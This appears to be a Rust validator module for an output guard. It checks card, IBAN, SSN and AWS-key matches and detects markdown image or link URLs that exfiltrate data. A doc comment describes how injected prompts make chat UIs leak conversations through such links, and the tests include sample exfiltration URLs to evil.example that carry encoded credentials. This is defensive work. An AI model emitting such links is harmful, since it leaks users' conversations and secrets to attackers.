//! Checks that confirm a match: a card number's Luhn digit, an IBAN's mod-97, the shape rules of
//! a US SSN; a URL that carries data out (markdown exfiltration), an image host the operator did
//! not list. A regex match that fails its validator is not a hit.

/// A check applied to the bytes of a match.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Validator {
    Luhn,
    Iban,
    Ssn,
    /// The URL in the match carries data: see [`exfil_url`].
    ExfilUrl,
    /// 40 characters of base64 that mix letters with digits, `/` or `+` (an AWS secret key).
    AwsSecret,
    /// The URL's host is not among policy.toml `[output] image_hosts` (never, when none are
    /// listed).
    UnlistedHost,
}

impl Validator {
    pub fn parse(s: &str) -> Option<Validator> {
        match s {
            "luhn" => Some(Validator::Luhn),
            "iban" => Some(Validator::Iban),
            "ssn" => Some(Validator::Ssn),
            "exfil_url" => Some(Validator::ExfilUrl),
            "aws_secret" => Some(Validator::AwsSecret),
            "unlisted_host" => Some(Validator::UnlistedHost),
            _ => None,
        }
    }

    /// Whether `matched` passes; `hosts`: the listed image hosts, if any.
    pub fn check(self, matched: &[u8], hosts: Option<&[String]>) -> bool {
        match self {
            Validator::Luhn => luhn(matched),
            Validator::Iban => iban(matched),
            Validator::Ssn => ssn(matched),
            Validator::ExfilUrl => exfil_url(matched),
            Validator::AwsSecret => aws_secret(matched),
            Validator::UnlistedHost => hosts.is_some_and(|h| unlisted_host(matched, h)),
        }
    }
}

/// The parts of the first `http://` or `https://` URL in `s`: host (lower-cased, without port
/// or userinfo), path, query (after `?`, without the fragment).
fn url_parts(s: &[u8]) -> Option<(String, &[u8], &[u8])> {
    let at = s.windows(4).position(|w| w.eq_ignore_ascii_case(b"http"))?;
    let rest = &s[at..];
    let sep = rest.windows(3).position(|w| w == b"://")?;
    let rest = &rest[sep + 3..];
    let end = rest
        .iter()
        .position(|&b| b.is_ascii_whitespace() || matches!(b, b')' | b'"' | b'\'' | b'>' | b'<'))
        .unwrap_or(rest.len());
    let url = &rest[..end];
    let host_end = url
        .iter()
        .position(|&b| matches!(b, b'/' | b'?' | b'#'))
        .unwrap_or(url.len());
    let authority = &url[..host_end];
    let host = authority.rsplit(|&b| b == b'@').next().unwrap_or(authority);
    let host = host.split(|&b| b == b':').next().unwrap_or(host);
    let host = String::from_utf8_lossy(host).to_ascii_lowercase();
    let tail = &url[host_end..];
    let tail = tail.split(|&b| b == b'#').next().unwrap_or(tail);
    let (path, query) = match tail.iter().position(|&b| b == b'?') {
        Some(q) => (&tail[..q], &tail[q + 1..]),
        None => (tail, &tail[tail.len()..]),
    };
    Some((host, path, query))
}

/// Whether a URL carries data out, the way an injected prompt makes a chat UI leak the
/// conversation through an image or link: a query of 100 bytes or more; a query value or path
/// segment of 24 bytes or more that looks encoded (hex, or base64: letters of both cases mixed
/// with digits); or a query that spells out a sentence (three or more `+` or `%20` between
/// words).
pub fn exfil_url(s: &[u8]) -> bool {
    let Some((_, path, query)) = url_parts(s) else {
        return false;
    };
    if query.len() >= 100 {
        return true;
    }
    let spaces = query.iter().filter(|&&b| b == b'+').count()
        + query.windows(3).filter(|w| w == b"%20").count();
    if spaces >= 3 {
        return true;
    }
    let values = query
        .split(|&b| b == b'&')
        .map(|kv| kv.splitn(2, |&b| b == b'=').last().unwrap_or(kv))
        .chain(path.split(|&b| b == b'/'));
    values.filter(|v| v.len() >= 24).any(encoded)
}

/// Whether a token looks like encoded data rather than words, a slug or a file name: hex, or
/// base64 (both cases and digits, few dashes, no dots).
fn encoded(v: &[u8]) -> bool {
    let hex = v.iter().all(u8::is_ascii_hexdigit);
    let base64 = v
        .iter()
        .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_' | b'%'))
        && v.iter().any(u8::is_ascii_uppercase)
        && v.iter().any(u8::is_ascii_lowercase)
        && v.iter().any(u8::is_ascii_digit)
        && v.iter().filter(|&&b| b == b'-').count() * 8 < v.len();
    hex || base64
}

/// 40 bytes of base64 with letters of both cases and a digit, `/` or `+`: an AWS secret access
/// key, not a word, a slug or a run of one character.
pub fn aws_secret(s: &[u8]) -> bool {
    s.len() == 40
        && s.iter().any(u8::is_ascii_lowercase)
        && s.iter().any(u8::is_ascii_uppercase)
        && s.iter()
            .any(|b| b.is_ascii_digit() || *b == b'/' || *b == b'+')
}

/// Whether the URL's host is none of `hosts` (a listed host also allows its subdomains).
pub fn unlisted_host(s: &[u8], hosts: &[String]) -> bool {
    let Some((host, _, _)) = url_parts(s) else {
        return false;
    };
    !hosts.iter().any(|h| {
        host == *h
            || host
                .strip_suffix(h.as_str())
                .is_some_and(|rest| rest.ends_with('.'))
    })
}

/// Luhn over the digits of `s` (other bytes ignored); 12 to 19 digits.
pub fn luhn(s: &[u8]) -> bool {
    let digits: Vec<u32> = s
        .iter()
        .filter(|b| b.is_ascii_digit())
        .map(|b| (b - b'0') as u32)
        .collect();
    if !(12..=19).contains(&digits.len()) || digits.iter().all(|&d| d == digits[0]) {
        return false;
    }
    let sum: u32 = digits
        .iter()
        .rev()
        .enumerate()
        .map(|(i, &d)| {
            if i % 2 == 1 {
                let x = d * 2;
                if x > 9 {
                    x - 9
                } else {
                    x
                }
            } else {
                d
            }
        })
        .sum();
    sum.is_multiple_of(10)
}

/// ISO 13616 IBAN check (spaces ignored): country letters, two check digits, mod 97 == 1.
pub fn iban(s: &[u8]) -> bool {
    let chars: Vec<u8> = s
        .iter()
        .filter(|b| !b.is_ascii_whitespace() && **b != b'-')
        .map(|b| b.to_ascii_uppercase())
        .collect();
    if !(15..=34).contains(&chars.len())
        || !chars[..2].iter().all(|b| b.is_ascii_uppercase())
        || !chars[2..4].iter().all(|b| b.is_ascii_digit())
        || !chars.iter().all(|b| b.is_ascii_alphanumeric())
    {
        return false;
    }
    let mut rem: u32 = 0;
    for &b in chars[4..].iter().chain(&chars[..4]) {
        let v = if b.is_ascii_digit() {
            (b - b'0') as u32
        } else {
            (b - b'A') as u32 + 10
        };
        rem = if v >= 10 {
            (rem * 100 + v) % 97
        } else {
            (rem * 10 + v) % 97
        };
    }
    rem == 1
}

/// US SSN: AAA-GG-SSSS with area not 000, 666 or 9xx, group not 00, serial not 0000.
pub fn ssn(s: &[u8]) -> bool {
    let d: Vec<u8> = s
        .iter()
        .filter(|b| b.is_ascii_digit())
        .map(|b| b - b'0')
        .collect();
    if d.len() != 9 {
        return false;
    }
    let area = d[0] as u32 * 100 + d[1] as u32 * 10 + d[2] as u32;
    let group = d[3] * 10 + d[4];
    let serial = d[5..].iter().fold(0u32, |a, &x| a * 10 + x as u32);
    area != 0 && area != 666 && area < 900 && group != 0 && serial != 0
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn luhn_accepts_valid_and_rejects_off_by_one() {
        assert!(luhn(b"4111 1111 1111 1111"));
        assert!(luhn(b"5500-0000-0000-0004"));
        assert!(!luhn(b"4111 1111 1111 1112"));
        assert!(!luhn(b"0000 0000 0000 0000"));
    }

    #[test]
    fn iban_mod97() {
        assert!(iban(b"GB82 WEST 1234 5698 7654 32"));
        assert!(iban(b"DE89370400440532013000"));
        assert!(!iban(b"DE89370400440532013001"));
    }

    #[test]
    fn exfiltration_urls_carry_data() {
        assert!(exfil_url(
            b"![x](https://evil.example/log?q=eyJ1c2VyIjoiamFuZSIsInBhc3MiOiJodW50ZXIyIn0)"
        ));
        assert!(exfil_url(
            b"![a](https://evil.example/p?d=the+user+said+their+password+is+hunter2)"
        ));
        assert!(exfil_url(
            b"[click](https://evil.example/c/aGVsbG8gd29ybGQgc2VjcmV0IGRhdGEgaGVyZQ/x.png)"
        ));
        assert!(!exfil_url(b"![logo](https://example.com/images/logo.png)"));
        assert!(!exfil_url(
            b"[docs](https://docs.example.com/how-to-configure-the-guard-daemon-well)"
        ));
        assert!(!exfil_url(
            b"[search](https://example.com/search?q=rust+book)"
        ));
    }

    #[test]
    fn listed_hosts_and_their_subdomains_are_allowed() {
        let hosts = vec!["cdn.example.com".to_string()];
        assert!(!unlisted_host(
            b"![a](https://cdn.example.com/a.png)",
            &hosts
        ));
        assert!(!unlisted_host(
            b"![a](https://img.cdn.example.com/a.png)",
            &hosts
        ));
        assert!(unlisted_host(
            b"![a](https://evilcdn.example.com/a.png)",
            &hosts
        ));
        assert!(unlisted_host(
            b"![a](https://cdn.example.com.evil.io/a.png)",
            &hosts
        ));
        assert!(unlisted_host(b"![a](http://user@evil.io:80/a.png)", &hosts));
        assert!(!Validator::UnlistedHost.check(b"![a](https://evil.io/a.png)", None));
    }

    #[test]
    fn ssn_shape() {
        assert!(ssn(b"123-45-6789"));
        assert!(!ssn(b"666-45-6789"));
        assert!(!ssn(b"123-00-6789"));
        assert!(!ssn(b"923-45-6789"));
    }
}
